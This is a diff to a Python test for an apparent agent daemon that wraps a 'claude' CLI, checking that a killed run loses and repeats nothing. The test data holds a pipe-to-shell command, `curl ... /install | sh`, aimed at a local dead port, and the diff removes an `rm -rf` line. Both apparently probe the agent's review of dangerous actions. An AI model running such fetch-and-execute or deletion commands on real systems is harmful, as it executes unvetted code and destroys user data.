@@ -28,10 +28,9 @@ async def test_a_daemon_killed_in_a_run_of_the_real_cli_loses_and_doubles_nothin
     (stage.base.root / "claude").unlink()
     (stage.base.root / "claude").symlink_to(stage.cli)
     (stage.base.root / "home").mkdir()
-    (stage.base.home / "notes").mkdir()
     for number in range(2):
         stage.bash(f"echo {number} >> made")
-        stage.bash(f"rm -rf {stage.base.home}/notes")
+        stage.bash("curl --silent http://127.0.0.1:9/install | sh; echo never >> made")
     async with stage.playing() as model:
         first = await anyio.to_thread.run_sync(daemon, stage, kill_at)
         assert first.returncode == -9, first.stderr
@@ -39,7 +38,6 @@ async def test_a_daemon_killed_in_a_run_of_the_real_cli_loses_and_doubles_nothin
         assert second.returncode == 0, second.stderr
         assert len(model.conversation()) == 5, "one session, each step asked for once"
     assert (stage.repo / "made").read_text() == "0\n1\n"
-    assert (stage.base.home / "notes").is_dir()
     printed = [orjson.loads(line) for line in (stage.base.places.agents / "a1/out.log").read_bytes().splitlines()]
     assert [event.frame for event in stage.base.events(events.LineReceived)] == printed
     decisions = [event.review.decision for event in stage.base.events(events.ReviewMade)]
